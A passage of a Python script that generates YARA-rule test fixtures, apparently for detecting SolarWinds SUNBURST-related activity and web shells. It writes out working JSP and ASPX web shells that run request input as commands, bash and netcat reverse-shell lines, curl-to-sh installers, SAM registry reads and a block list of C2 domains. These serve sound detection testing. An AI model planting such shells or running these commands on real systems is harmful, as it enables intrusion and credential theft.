        "<%@ page import=\"java.io.*\" %>\n<%\n"
        "Process p = Runtime.getRuntime().exec(request.getParameter(\"cmd\"));\n"
        "InputStream in = p.getInputStream();\n%>\n").encode())
    yield ("chopper.aspx", "IRK_WebShell_ASPX_Request_Exec",
           b'<%@ Page Language="Jscript"%><%eval(Request.Item["irkit"],"unsafe");%>\n')
    yield ("exec.aspx", "IRK_WebShell_ASPX_Request_Exec", (
        "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\n"
        "void Page_Load(object s, EventArgs e) {\n"
        "  var psi = new ProcessStartInfo(\"cmd.exe\", \"/c \" + Request.Form[\"c\"]);\n"
        "  Process.Start(psi);\n}\n</script>\n").encode())


def negatives():
    """Yield (file name, bytes) that no rule may match."""
    # near misses of the TEARDROP payload names
    yield ("photo_names.txt", b"upbeat_anxiety.jpeg\nupbeat anxiety.jpg\n"
           b"gracious-truth.jpg\nupbeat_anxiety.png\n")
    yield ("solarwinds_orion_manual.txt", (
        "SolarWinds Orion Platform Administrator Guide\n\n"
        "The SolarWinds Orion Platform is the common backbone for Network "
        "Performance Monitor, Server & Application Monitor and other Orion "
        "modules.  The Orion Business Layer service hosts "
        "SolarWinds.Orion.Core.BusinessLayer.dll and runs polling jobs; the "
        "Orion Improvement Program sends anonymous usage statistics to "
        "SolarWinds if you opt in.  Install hotfixes from the Customer "
        "Portal and keep the Orion Web Console behind your firewall.\n"
        ).encode())
    yield ("SolarWinds.Orion.Core.BusinessLayer.dll.config", (
        "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<configuration>\n"
        "  <appSettings>\n"
        "    <add key=\"ReportWatcherRetry\" value=\"4\" />\n"
        "    <add key=\"ReportWatcherPostpone\" value=\"60\" />\n"
        "    <add key=\"OrionServerName\" value=\"orion01.corp.example\" />\n"
        "    <add key=\"BusinessLayerPort\" value=\"17777\" />\n"
        "  </appSettings>\n"
        "  <!-- SolarWinds Orion Core Business Layer, Orion Platform 2020.2 -->\n"
        "</configuration>\n").encode())
    yield ("ordinary_dotnet.dll", pe_file(
        strings_heap("<Module>", "Contoso.Scheduler", "TaskRunner",
                     "RunTask", "ExecuteEngine", "ParseServiceResponse",
                     "ZipHelper", "System.IO.Compression", "DeflateStream",
                     "HttpWebRequest"),
        us_heap(deflate_b64("Hello from the scheduler"),
                deflate_b64("https://api.example.org/v1/jobs"),
                "codes", "method", "args")))
    yield ("7zip_shell_extension.dll", pe_file(
        b"\x007-zip.dll\x00", strings_heap(
            "DllCanUnloadNow", "DllGetClassObject", "DllRegisterServer",
            "DllUnregisterServer"),
        utf16("Igor Pavlov"), utf16("7-Zip Shell Extension")))
    yield ("backup.cron", (
        "# m h dom mon dow user command\n"
        "0 3 * * * root /usr/local/sbin/backup.sh >/dev/null 2>&1\n"
        "*/5 * * * * nobody curl -fsS -o /var/lib/status/status.json "
        "https://status.example.org/api\n").encode())
    yield ("nginx.service", (
        "[Unit]\nDescription=A high performance web server\n\n[Service]\n"
        "Type=forking\nExecStartPre=/usr/sbin/nginx -t -q\n"
        "ExecStart=/usr/sbin/nginx\nExecReload=/usr/sbin/nginx -s reload\n"
        "\n[Install]\nWantedBy=multi-user.target\n").encode())
    yield ("tcp_check.sh", (
        "#!/bin/bash\n# health check without external tools\n"
        "exec 3<>/dev/tcp/$HOST/$PORT || exit 1\n"
        "curl -fsSL https://example.org/release.tgz -o release.tgz\n"
        "echo \"$payload\" | base64 -d > blob.bin\n").encode())
    yield ("index.php",
           b"<?php echo htmlspecialchars($_GET['q'] ?? '', ENT_QUOTES); ?>\n")
    yield ("hello.jsp", (
        "<% String n = request.getParameter(\"name\"); %>\n"
        "<p>Hello <%= n %></p>\n").encode())
    yield ("default.aspx", (
        "<%@ Page Language=\"C#\" %>\n<% Response.Write(Server.HtmlEncode("
        "Request.QueryString[\"q\"])); %>\n").encode())
    yield ("ld.so.preload", b"/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\n")
    yield ("health_lo.sh", (
        "#!/bin/bash\nexec 3<>/dev/tcp/127.0.0.1/8080 || exit 1\n"
        "exec 196<>/dev/tcp/localhost/5432\n"
        "bash -i >& /dev/tcp/127.0.0.53/53 0>&1\n").encode())
    yield ("nc_port_test.sh", b"nc -zv db.example.org 5432\nnc -e sh 127.0.0.1 4444\n"
           b"socat tcp:[::1]:80 -\n")
    yield ("jemalloc.service", (
        "[Service]\nEnvironment=LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\n"
        "ExecStart=/usr/bin/redis-server\n").encode())
    # an m4/configure continuation into a shell, no download
    yield ("abi.m4", b"    echo 'int x;' \\\n         | sh -s -- cc\n")
    yield ("read_preload.sh", b"cat /etc/ld.so.preload\ntest -s /etc/ld.so.preload && echo set\n")
    yield ("template.php", (
        "<?php $page = htmlspecialchars($_GET['p'] ?? 'home');\n"
        "exec('git rev-parse HEAD', $out);\n$stmt = $db->exec($sql); ?>\n").encode())
    # an IOC or block list: bare values alone on their lines
    yield ("blocklist.txt", b"# blocked\navsvmcloud.com\nzupertech.com\t# c2\n"
           b"13.59.205.66\ngracious_truth.jpg\r\nfreescanonline.com")
    # a dump with the evidence the PE rules need, not what the dump twins need
    yield ("orion_few_names.dmp", minidump(pe_file(strings_heap(
        "OrionImprovementBusinessLayer", "ExecuteEngine", "RunTask",
        "ZipHelper", "CryptoHelper"), us_heap(*[deflate_b64(s) for s in (
            "avsvmcloud.com", "appsync-api", "eu-west-1", "us-west-2",
            "ReportWatcherRetry")]))))
    yield ("fnv_few.dmp", minidump(b"\x21" + struct.pack("<Q", SUNBURST_XOR) + b"".join(
        b"\x21" + struct.pack("<Q", sunburst_hash(n)) for n in (
            "windefend", "sysmon", "dnspy", "tanium"))))
    # look-alikes: a JPEG library's JFIF compare alone, another TLV layout
    # XOR-encoded, the key byte repeated
    yield ("jpeg_reader.dll", pe_file(b"\xc7\x44\x24\x20JFIF",
                                       strings_heap("jpeg_read_header")))
    yield ("tlv_other_x69.bin", xor(beacon_settings((2, 2, 1, 1, 2, 2)), 0x69)
           + xor(beacon_settings((1, 2, 2, 2, 1, 1)), 0x2E))
    yield ("ihih.txt", b"ihihik" * 200 + b"./,/.," * 200)
    # near misses of the log rules
    yield ("u_ex_clean.log", (
        "2020-11-20 10:01:02 10.0.0.20 GET /Orion/LogoImageHandler.ashx id=SiteLogo 443 10.0.0.5 200\r\n"
        "2020-11-20 10:01:03 10.0.0.20 GET /Orion/Login.aspx clazz=x 443 10.0.0.5 200\r\n").encode())
    yield ("dns_debug_clean.log", (
        "6/13/2020 9:20:41 AM 0E4C PACKET UDP Rcv 10.0.0.5 Q A "
        "(3)api(10)solarwinds(3)com(0)\r\n"
        "6/13/2020 9:20:42 AM 0E4C PACKET UDP Rcv 10.0.0.5 Q A "
        "(10)avsvmcloud(3)net(0)\r\n").encode())
    yield ("proxy_solarwinds.log", (
        "1592039641.000 80 10.0.0.5 TCP_MISS/200 512 GET "
        "https://api.solarwinds.com/swip/upd/SolarWinds.CortexPlugin.xml - DIRECT/192.0.2.80 text/xml\n"
        "1592039642.000 80 10.0.0.5 TCP_MISS/200 512 GET "
        "https://downloads.solarwinds.com:443/swip/Events - DIRECT/192.0.2.82 text/xml\n"
        "1592039643.000 80 10.0.0.5 TCP_MISS/200 512 GET "
        "https://cdn.example.org/static/swipe/a.js - DIRECT/192.0.2.83 text/js\n").encode())
    yield ("audit.ps1", (
        "# reads the SAM key for an inventory, clears nothing\n"
        "Get-Item 'HKLM:\\SAM\\SAM\\Domains\\Account' | Out-Null\n"
        "Get-Item 'HKLM:\\SYSTEM\\CurrentControlSet\\Control\\Lsa\\JD' | Out-Null\n"
        "wevtutil qe Security /c:5\n").encode())
    yield ("build.log", (
        "[ERROR] Step4 fails: missing project reference\n"
        "[1] Step7 fails\n[12] Build directory: C:\\Builds\n").encode())
    # one Orion store and a decryption call; two stores, no decryption;
    # the hash format described without a hash
    yield ("orion_admin_notes.txt", (
        "Orion keeps its database connection in SWNetPerfMon.DB in the "
        "install folder; protect it with ProtectedData.Unprotect only.\n"
        ).encode())
    yield ("orion_backup.ps1", (
        "Copy-Item 'C:\\ProgramData\\SolarWinds\\KeyStorage\\CryptoHelper\\default.dat' D:\\bak\n"
        "Copy-Item 'C:\\Program Files (x86)\\SolarWinds\\Orion\\SWNetPerfMon.DB' D:\\bak\n"
        ).encode())
    yield ("hash_formats.md", (
        "| 12501 | SolarWinds Orion v2 | $solarwinds$1$salt$hash |\n").encode())
    yield ("photo.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00"
           + bytes(range(256)) * 4 + b"\xff\xd9")


def lowscores():
    """Yield (file name, bytes) that only rules scored below 60 may match."""
    yield ("vendor_install.sh",
           b"curl --proto '=https' -sSf https://sh.example.org/install | sh\n")
    yield ("INSTALL.md", (
        "# Installing\n\nRun the vendor installer:\n\n```sh\n"
        "curl -fsSL https://get.example.org/install.sh | sh\n```\n").encode())
    yield ("installation.html", (
        "<!DOCTYPE HTML>\n<html lang=\"en\"><body><pre><code>"
        "curl --proto '=https' -sSf https://sh.example.org | sh"
        "</code></pre></body></html>\n").encode())


def main(argv):
    if len(argv) != 2:
        sys.stderr.write("usage: yara_fixtures.py OUTDIR\n")
        return 2
    out = argv[1]
    pos = os.path.join(out, "positive")
    neg = os.path.join(out, "negative")
    os.makedirs(pos, exist_ok=True)
    os.makedirs(neg, exist_ok=True)
    seen = set()
    with open(os.path.join(out, "manifest.tsv"), "w") as manifest:
        for name, rule, data in positives():
            if name in seen:
                raise SystemExit("duplicate fixture name '%s'" % name)
            seen.add(name)
            with open(os.path.join(pos, name), "wb") as f:
                f.write(data)
            manifest.write("%s\t%s\n" % (name, rule))
    for name, data in negatives():
        with open(os.path.join(neg, name), "wb") as f:
            f.write(data)
    low = os.path.join(out, "lowscore")
    os.makedirs(low, exist_ok=True)
    for name, data in lowscores():
        with open(os.path.join(low, name), "wb") as f:
            f.write(data)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
